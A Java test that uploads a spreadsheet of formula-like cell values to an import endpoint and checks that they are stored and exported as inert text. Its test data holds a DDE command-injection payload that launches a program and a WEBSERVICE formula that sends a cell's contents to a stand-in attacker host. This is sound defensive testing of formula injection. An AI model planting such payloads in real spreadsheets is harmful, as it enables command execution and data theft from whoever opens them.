package org.baton.distribution;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.List;

/** A workbook whose cells hold formulas, and words that a spreadsheet program takes for some. */
record FormulaWorkbook(Client admin) {
  void isNeitherRunNorKept(Path folder) throws IOException {
    List<String> names = List.of("=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)");
    Workbook workbook = new Workbook();
    workbook.row(cells("code", "name_zh", "name_en", "kind", "valid_from"));
    for (int i = 0; i < names.size(); i++) {
      String[] row = cells("F" + i, names.get(i), "", "formula", "2020-01-01");
      String came = i == 0 ? "=WHAT(IT)" : names.get(i);
      row[2] = Workbook.formula("WEBSERVICE(\"http://evil.example/\"&A1)", came);
      workbook.row(row);
    }
    Path file = Files.write(folder.resolve("formulas.xlsx"), workbook.bytes());
    Client.Answer taken = admin.upload("/api/core/imports/units?file=formulas.xlsx", file);
    assertThat(taken.status()).as(taken.body()).isEqualTo(200);
    for (int i = 0; i < names.size(); i++) {
      Client.Answer unit = admin.get("/api/core/units/F" + i);
      assertThat(unit.body()).contains(names.get(i)).doesNotContain("WEBSERVICE", "evil.example");
    }
    Client.Answer page =
        admin.send("GET", "/core/units/?kind=formula", null, "Accept", "text/html");
    assertThat(page.body()).contains("@SUM(1)").doesNotContain("WEBSERVICE", "evil.example");
    workbook.row(cells("G", "", "", "formula", "=1+1")).row(cells("@H", "", "", "x", "-2+3"));
    Files.write(file, workbook.bytes());
    Client.Answer mistakes =
        admin.upload("/api/core/imports/units?file=formulas.xlsx", file, "Accept", "text/csv");
    assertThat(mistakes.status()).isEqualTo(422);
    assertThat(mistakes.body()).contains("'=1+1", "'-2+3").doesNotContain(",=", ",-", ",@", ",+");
  }

  private static String[] cells(String... words) {
    return Arrays.stream(words).map(Workbook::words).toArray(String[]::new);
  }
}
